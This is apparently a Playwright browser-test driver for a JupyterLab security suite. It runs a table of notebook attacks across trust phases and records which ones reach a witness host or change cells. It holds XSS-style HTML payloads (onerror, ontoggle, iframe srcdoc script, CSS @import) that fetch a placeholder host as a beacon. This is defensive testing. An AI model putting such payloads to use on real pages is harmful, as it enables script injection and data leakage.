"""Plays the whole table in a real JupyterLab, with one kernel at one level of output.

All attacks stand in one notebook, so that the table costs one page load for each phase. That they
do not get into each other's way is seen under plain ipykernel, where each has to succeed.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from playwright.sync_api import Browser, Error, Frame, Page

from tests.browser.attacks.attack import (
    CHARTS,
    EXECUTED,
    PHASES,
    UNTRUSTED,
    Attack,
)
from tests.browser.lab import TIMEOUT, JupyterLab, Notebook, code_cell, new_page
from tests.browser.witness import OtherHost, Witness, mark

__all__ = ["Played", "Stage"]

_BEACON = "beacon"
_ENAME = 40  # characters of an error's name; one of them holds a script, and so a stage's mark
_PATIENCE = 60.0  # seconds for what succeeds under plain ipykernel; most of it has by then
_POLLUTES = "comm-target"  # the only attack seen to change what every object has
# In the page, after everything else, by the driver: it goes the ways that attacks go, and is seen
# to arrive. What has not arrived by then does not come.
_SEND_BEACON = """async ([html, vega]) => {
    const turn = () => new Promise(done => requestIdleCallback(() => setTimeout(done)));
    await turn();
    await new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)));
    await turn();
    const place = document.createElement('div');
    place.id = 'beacon';
    document.body.append(place);
    place.innerHTML = html;
    if (!vega)
        return;
    const mime = 'application/vnd.vega.v5+json';
    const known = window.jupyterapp.shell.currentWidget.content.rendermime;
    const renderer = known.createRenderer(mime);
    place.append(renderer.node);
    await renderer.renderModel(known.createModel({data: {[mime]: vega}, trusted: true}));
}"""
_BEACON_HTML = (
    '<img src="@HOST@/@MARK@/img"><img src=x: onerror="@JS@">'
    "<style>@import url(@HOST@/@MARK@/beacon.css);</style>"
    "<iframe srcdoc=\"&lt;script&gt;fetch('@HOST@/@MARK@/frame')&lt;/script&gt;\"></iframe>"
    "<details open ontoggle=\"fetch('@HOST@/@MARK@/toggle')\"></details>"
)
_BEACON_WAYS = ("/img", "/script", "/beacon.css", "/frame", "/toggle")
# Every element of every output; links to other hosts are the user's own business.
_TOUCH = """async selector => {
    for (const output of document.querySelectorAll(selector)) {
        output.scrollIntoView();  // what nobody sees may not be drawn
        if (window === top)  // a frame out of sight is not drawn at all
            await new Promise(done => { requestAnimationFrame(done); setTimeout(done, 100); });
        // Without an address it would be sent to the page's own, which only opens it again.
        for (const form of output.querySelectorAll('form:not([action])'))
            form.addEventListener('submit', event => event.preventDefault());
        for (const each of output.querySelectorAll('*')) {
            if (each.closest('a[href^="http"], .vega-embed summary, .vega-actions, .modebar'))
                continue;
            try { each.focus?.({preventScroll: true}); } catch {}
            for (const kind of ['mouseover', 'click'])
                each.dispatchEvent(
                    new MouseEvent(kind, {bubbles: true, cancelable: true, view: window}));
        }
    }
}"""
# What a user does beside, each until the kernel's answer has been dealt with: the kernel answers
# in order, so the last answer is to a question of the driver's own.
_START = """async name => {
    const panel = window.jupyterapp.shell.currentWidget;
    const kernel = panel.sessionContext.session.kernel;
    const cells = panel.content.widgets;
    panel.content.activeCellIndex = cells.findIndex(cell => cell.model.id === name);
    panel.content.activeCell.node.scrollIntoView();
    panel.content.activeCell.editor.focus();
    const ask = (...command) => window.jupyterapp.commands.execute(...command);
    const turn = () => new Promise(done => requestIdleCallback(() => setTimeout(done)));
"""
_BUG = "document.querySelector('.jp-DebuggerBugButton')"
_USE = {
    "inspect": _START
    + """
    await ask('tooltip:launch-notebook');
    await kernel.requestInspect({code: 'it', cursor_pos: 2, detail_level: 0});
    await turn();
    await ask('tooltip:dismiss');
}""",
    "variable": _START
    + """
    const before = new Set(window.jupyterapp.shell.widgets('main'));
    await ask('debugger:render-mime-variable', {name: 'it'});
    const arguments = {variableName: 'it'};
    await kernel.requestDebug(
        {type: 'request', seq: 1, command: 'richInspectVariables', arguments}).done;
    await turn();
    await turn();
    for (const it of window.jupyterapp.shell.widgets('main'))
        if (!before.has(it))
            it.close();
}""",
}
# Gives an empty answer to what input() asks.
_ANSWER = """() => {
    for (const box of document.querySelectorAll('.jp-Stdin-input'))
        box.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', bubbles: true}));
}"""
_CELLS = """() => window.jupyterapp.shell.currentWidget.content.model.sharedModel.cells
    .map(cell => [cell.getId(), cell.getSource()])"""


@dataclass
class Played:
    """What came of a table.

    Attributes:
        seen: phase to attack to what arrived or changed.
        ran_in_frames: phase to the attacks whose script was seen to run in a frame.
        errors: cells' ids to the name of the error that they ended with.
    """

    seen: dict[str, dict[str, set[str]]] = field(default_factory=dict)
    ran_in_frames: dict[str, set[str]] = field(default_factory=dict)
    errors: dict[str, str] = field(default_factory=dict)


class Stage:
    """A kernel at a level of output, to be attacked.

    Args:
        lab: the server.
        other: any other host.
        browser: where the notebook is opened.
        name: lower-case letters; part of every mark, and a folder of the server.
        kernel: name of the kernelspec.
    """

    def __init__(
        self, lab: JupyterLab, other: OtherHost, browser: Browser, name: str, kernel: str
    ) -> None:
        self._lab = lab
        self._other = other
        self._browser = browser
        self._name = name
        self._kernel = kernel
        self._witness = Witness(lab, other)
        self._completed: set[str] = set()

    def play(self, attacks: Sequence[Attack], *, expected: bool) -> Played:
        """Play a table in all phases.

        Args:
            attacks: its rows.
            expected: whether to wait for what the rows say succeeds under plain ipykernel.
        """
        played = Played()
        groups: dict[str, list[Attack]] = {}
        for attack in attacks:
            groups.setdefault(attack.group, []).append(attack)
        for group, members in groups.items():
            self._play(f"{self._name}/attack{group}.ipynb", members, played, expected)
        return played

    def _play(self, path: str, attacks: Sequence[Attack], played: Played, expected: bool) -> None:
        cells = self._cells(attacks)
        self._lab.write_notebook(path, cells, kernel=self._kernel)
        page = new_page(self._browser, scale=1)
        page.on("dialog", lambda dialog: dialog.accept())
        page.route(lambda url: not url.startswith("http://127.0.0.1:"), lambda it: it.abort())
        sources = {cell["id"]: cell["source"] for cell in cells}
        for phase in PHASES:
            self._witness.next_phase()
            opened = self._open(page, phase, path)
            if phase == EXECUTED:
                self._execute(opened)
                self._use(page, attacks)
            page.bring_to_front()  # a page behind one that was opened is not drawn
            self._touch(page)
            wanted = {it.name for it in attacks if expected and phase in it.works}
            self._await_beacon(page, wanted, sources, charts=attacks[0].group == CHARTS)
            self._collect(page, phase, played, sources)
            for popup in page.context.pages:
                if popup is not page:
                    popup.close()
            if phase == EXECUTED:
                opened.command("docmanager:save")
                played.errors.update(self._errors(path))
        page.close()

    def _cells(self, attacks: Iterable[Attack]) -> list[dict[str, Any]]:
        found = []
        for attack in attacks:
            codes = attack.cells(mark(attack.name, self._name), self._lab.url, self._other.url)
            found += [code_cell(it, f"{attack.name}.{i}") for i, it in enumerate(codes)]
        return [*found, code_cell("print('the end')", "end.0")]

    # --- phases ---------------------------------------------------------------------------------

    def _open(self, page: Page, phase: str, path: str) -> Notebook:
        if phase == UNTRUSTED:
            path = self._copy(path)
        notebook = Notebook(page, self._lab.address(path))
        if phase != EXECUTED:
            self._await(page, lambda: notebook.panel.get_by_text("the end", exact=True).count())
        return notebook

    def _copy(self, path: str) -> str:
        """Write what the server has not signed: the same notebook with other metadata."""
        notebook = json.loads((self._lab.folder / path).read_text("utf-8"))
        notebook["metadata"]["copied"] = True
        copy = path.replace("attack", "copy")
        (self._lab.folder / copy).write_text(json.dumps(notebook), encoding="utf-8")
        return copy

    def _execute(self, notebook: Notebook) -> None:
        page = notebook.page
        page.evaluate("() => void window.jupyterapp.commands.execute('notebook:run-all-cells')")
        end = notebook.panel.get_by_text("the end", exact=True)

        def done() -> bool:
            page.evaluate(_ANSWER)
            return end.count() > 0

        self._await(page, done)
        notebook.until_idle()

    def _use(self, page: Page, attacks: Iterable[Attack]) -> None:
        """Do what a user does: complete, ask for help, look at a variable in the debugger."""
        for attack in attacks:
            first = f"{attack.name}.0"
            if attack.do == "complete":
                self._complete(page, first)
            elif attack.do == "variable":
                page.evaluate(f"() => {_BUG}.click()")
                page.wait_for_function(f"() => {_BUG}.getAttribute('aria-pressed') === 'true'")
            if attack.do in _USE:
                page.evaluate(_USE[attack.do], first)

    def _complete(self, page: Page, cell: str) -> None:
        """Complete at the end of a cell, and take the first of what is offered."""
        page.evaluate(_START + "}", cell)
        page.keyboard.press("Control+End")
        page.locator(".jp-mod-active .jp-mod-completer-enabled").wait_for()  # or it would indent
        page.keyboard.press("Tab")
        page.locator(".jp-Completer:not(.lm-mod-hidden)").wait_for()
        before = page.evaluate(_CELLS)
        page.keyboard.press("Enter")
        self._await(page, lambda: page.evaluate(_CELLS) != before)
        self._completed.add(cell)

    def _touch(self, page: Page) -> None:
        page.evaluate(_TOUCH, ".jp-OutputArea-output")
        for frame in _frames(page):
            _try(frame, _TOUCH, "html")

    def _await_beacon(
        self, page: Page, wanted: set[str], sources: Mapping[str, str], *, charts: bool
    ) -> None:
        if wanted:
            self._await(page, lambda: wanted <= self._arrived(page, sources).keys(), _PATIENCE)
        beacon = Attack(_BEACON, "", _BEACON_HTML)
        marked = mark(_BEACON, self._name)
        (html,) = beacon.cells(marked, self._lab.url, self._other.url)
        vega = {
            "$schema": "https://vega.github.io/schema/vega/v5.json",
            "padding": 0,
            "autosize": "none",
            "data": [{"name": "t", "url": f"{self._other.url}/{marked}/data.json"}],
        }
        ways = [*_BEACON_WAYS, f"PUT /api/contents/{marked}.txt", *["/data.json"] * charts]
        page.evaluate(_SEND_BEACON, [html, vega if charts else None])

        def arrived() -> bool:
            lines = self._witness.marks(self._name).get(_BEACON, set())
            return all(any(way in line for line in lines) for way in ways)

        self._await(page, arrived)
        page.evaluate("() => document.getElementById('beacon').remove()")

    # --- evidence -------------------------------------------------------------------------------

    def _collect(self, page: Page, phase: str, played: Played, sources: Mapping[str, str]) -> None:
        seen = played.seen.setdefault(phase, {})
        for name, lines in self._arrived(page, sources).items():
            seen.setdefault(name, set()).update(lines)
        for file in self._lab.folder.glob("pwned.*"):
            _, name, stage, *_ = file.name.split(".")
            if stage == self._name:
                seen.setdefault(name, set()).add(f"file: {file.name}")
                file.unlink()
        seen.pop(_BEACON, None)
        ran = played.ran_in_frames.setdefault(phase, set())
        for frame in _frames(page):
            ran.update(it.split(".")[1] for it in _try(frame, "() => window.pwned_ran") or [])

    def _arrived(self, page: Page, sources: Mapping[str, str]) -> dict[str, set[str]]:
        found = {name: set(lines) for name, lines in self._witness.marks(self._name).items()}
        for marked in page.evaluate("() => window.pwned_ran ?? []"):
            found.setdefault(marked.split(".")[1], set()).add("page: script ran in it")
        if page.evaluate("() => { for (const name in {}) return name; }"):
            found.setdefault(_POLLUTES, set()).add("page: every object has a property more")
        for name, text in self._changed(page, sources):
            found.setdefault(name, set()).add(text)
        return found

    def _changed(self, page: Page, sources: Mapping[str, str]) -> Iterable[tuple[str, str]]:
        """Return what changed of the cells, beside a word that was taken of what was offered.

        A new one without a policy magic does nothing.
        """
        now = dict(page.evaluate(_CELLS))
        for name, source in now.items():
            before = sources.get(name, source)
            if source != before and not (name in self._completed and _adds(source, before)):
                yield name.partition(".")[0], f"cell: {source[-80:]!r}"
            if name not in sources and not all(map(_is_comment, source.splitlines())):
                marked = source.partition("pwned.")[2] or name
                yield marked.partition(".")[0], f"new cell: {source[:80]!r}"
        for name in sources.keys() - now.keys():
            yield name.partition(".")[0], "cell: gone"

    def _errors(self, path: str) -> dict[str, str]:
        notebook = json.loads((self._lab.folder / path).read_text("utf-8"))
        return {
            cell["id"]: output["ename"][:_ENAME]
            for cell in notebook["cells"]
            for output in cell.get("outputs", ())
            if output["output_type"] == "error"
        }

    def _await(self, page: Page, condition: Any, patience: float | None = None) -> None:
        """Wait until a condition holds; with a patience in seconds, no longer than that."""
        until = time.monotonic() + (TIMEOUT if patience is None else patience)
        while not condition():
            if time.monotonic() > until:
                if patience is not None:
                    return
                raise TimeoutError(f"{self._name}: {condition}")
            page.wait_for_timeout(50)  # lets the driver work; a condition is awaited


def _adds(source: str, before: str) -> bool:
    """Whether a text is what it was, and behind it what may be completed: a word, no magic."""
    added = source.removeprefix(before)
    return len(added) < len(source) and "%" not in added and len(added.splitlines()) == 1


def _is_comment(line: str) -> bool:
    return not line.strip() or line.startswith("#")


def _frames(page: Page) -> list[Frame]:
    return [frame for frame in page.frames if frame is not page.main_frame]


def _try(frame: Frame, script: str, *arguments: Any) -> Any:
    """Evaluate in a frame, which may be gone meanwhile."""
    try:
        return frame.evaluate(script, *arguments)
    except Error:
        return None
